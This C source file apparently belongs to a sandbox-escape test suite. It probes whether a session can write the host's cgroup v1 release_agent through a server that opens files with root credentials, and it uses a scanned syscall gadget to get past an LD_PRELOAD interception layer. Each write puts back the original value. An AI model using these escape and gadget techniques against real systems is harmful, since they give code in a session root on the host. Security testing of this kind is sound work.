/* A cgroup v1 hierarchy of the host's inside a read-write grant (a
 * chroot's /sys bound in, a delegated cgroup directory): the server opens
 * files for the session with its own credentials, which for a root
 * session are the host's root with every capability, and cgroup v1's
 * release_agent takes a write from any fd opened by a holder of
 * CAP_SYS_ADMIN in the initial namespaces (the kernel looks at the
 * opener's credentials): a program of the session's then runs as the
 * host's root when a cgroup empties. argv[1]: the hierarchy's virtual
 * path, resolved by the process; argv[2]: the same through `..` (the
 * server's walk); argv[3]: the same relative to the grant's root (around
 * the handler: every directory fd, through ld-preld's `syscall; ret`);
 * argv[4]: a name for a new cgroup. Each write writes back the value read
 * (no change); anything written or made prints ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }
static char value[4096];
static long vlen;

static void wr(const char *label, long fd, int gadget) {
    if (fd < 0) {
        printf("%s: %s\n", label, strerror((int)-fd));
        fflush(stdout);
        return;
    }
    char buf[4097];
    memcpy(buf, value, vlen);
    buf[vlen] = '\n';
    long n = gadget ? g(SYS_write, fd, (long)buf, vlen + 1, 0) : raw(SYS_write, fd, buf, vlen + 1, 0);
    printf("%s: opened for writing, write %ld%s\n", label, n, n > 0 ? " ESCAPE: wrote the host's release_agent" : "");
    fflush(stdout);
    gadget ? g(SYS_close, fd, 0, 0, 0) : raw(SYS_close, fd, 0, 0, 0);
}

int main(int argc, char **argv) {
    if (argc < 5) { fprintf(stderr, "usage: cgroup_grant VPATH DOTDOT RELPATH NAME\n"); return 2; }
    char p[512], label[600];
    snprintf(p, sizeof p, "%s/release_agent", argv[1]);
    long r = lc(open(p, O_RDONLY));
    /* (Unreadable where the hierarchy is covered: the writes below are
     * tried still, and would write back an empty value.) */
    if (r < 0) {
        printf("read release_agent: %s\n", strerror((int)-r));
        vlen = 0;
    } else {
        vlen = raw(SYS_read, r, value, sizeof value - 1, 0);
        close((int)r);
        if (vlen < 0) vlen = 0;
        while (vlen > 0 && value[vlen - 1] == '\n') vlen--;
        printf("release_agent: [%.*s]\n", (int)vlen, value);
    }
    wr("libc open VPATH/release_agent O_WRONLY", lc(open(p, O_WRONLY)), 0);
    snprintf(p, sizeof p, "%s/release_agent", argv[2]);
    wr("libc open DOTDOT/release_agent O_WRONLY", lc(open(p, O_WRONLY)), 0);
    snprintf(p, sizeof p, "%s/%s", argv[1], argv[4]);
    r = lc(mkdir(p, 0755));
    printf("libc mkdir VPATH/NAME: %s\n", r < 0 ? strerror((int)-r) : "made ESCAPE: a cgroup of the host's made");
    if (r == 0) rmdir(p);
    fflush(stdout);

    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    G = cands[0];
    int dirs = 0;
    for (long fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (g(SYS_fstat, fd, (long)&st, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        dirs++;
        snprintf(p, sizeof p, "%s/release_agent", argv[3]);
        snprintf(label, sizeof label, "openat(dir fd %ld, RELPATH/release_agent, O_WRONLY)", fd);
        wr(label, g(SYS_openat, fd, (long)p, O_WRONLY, 0), 1);
    }
    printf("directory fds: %d\n", dirs);
    fflush(stdout);
    return 0;
}
